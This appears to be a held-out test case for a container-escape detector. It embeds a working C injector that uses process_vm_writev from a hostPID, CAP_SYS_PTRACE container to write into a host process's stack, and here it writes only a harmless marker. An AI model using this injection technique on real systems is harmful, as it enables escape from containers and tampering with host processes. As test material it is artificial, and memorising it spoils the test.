# category: container-escape
# technique: T1055
# art: no
# expect: ptrace-attach
# image: debian
# opts: --hostpid --no-nnp --cap CAP_SYS_PTRACE
# setup: hostproc
# desc: a hostPID container with CAP_SYS_PTRACE compiles a small injector with the image's tcc and writes into a host process's memory ($TARGET, a host daemon stand-in) with process_vm_writev, no ptrace attach and no /proc/PID/mem: it reads the bottom of the target's stack and writes a marker there (unused stack space of a scratch sleep process)
cat >/tmp/inj.c <<'C'
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>

int main(int argc, char **argv)
{
	int pid = atoi(argv[1]);
	char path[64], line[512], buf[32] = {0};
	unsigned long lo = 0, hi = 0;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *f = fopen(path, "r");
	if (!f) { perror(path); return 1; }
	while (fgets(line, sizeof line, f))
		if (strstr(line, "[stack]")) { sscanf(line, "%lx-%lx", &lo, &hi); break; }
	fclose(f);
	if (!lo) { fprintf(stderr, "no stack mapping\n"); return 1; }
	struct iovec local = { buf, sizeof buf - 1 }, remote = { (void *)lo, sizeof buf - 1 };
	ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
	printf("pid %d stack %lx-%lx: read %zd bytes\n", pid, lo, hi, n);
	char mark[] = "exray-heldout-injected";
	struct iovec src = { mark, sizeof mark }, dst = { (void *)lo, sizeof mark };
	n = process_vm_writev(pid, &src, 1, &dst, 1, 0);
	if (n < 0) { perror("process_vm_writev"); return 0; }
	memset(buf, 0, sizeof buf);
	process_vm_readv(pid, &local, 1, &remote, 1, 0);
	printf("wrote %zd bytes into the host process; it now holds \"%s\"\n", n, buf);
	return 0;
}
C
tcc -o /tmp/inj /tmp/inj.c
echo "target: $TARGET $(tr '\0' ' ' </proc/$TARGET/cmdline)"
/tmp/inj "$TARGET"
